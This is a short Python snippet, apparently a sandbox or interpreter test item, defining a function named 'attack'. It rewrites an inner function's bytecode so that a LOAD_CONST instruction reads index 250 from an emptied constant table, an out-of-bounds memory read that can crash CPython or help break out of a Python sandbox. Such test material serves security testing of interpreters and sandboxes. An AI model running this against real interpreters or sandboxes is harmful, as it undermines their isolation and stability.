# Bytecode that takes a constant from beyond the table.
def attack(n):
    def inner():
        return 1

    raw = bytearray(inner.__code__.co_code)
    raw[2:4] = bytes([100, 250])
    inner.__code__ = inner.__code__.replace(co_code=bytes(raw), co_consts=())
    return str(inner())
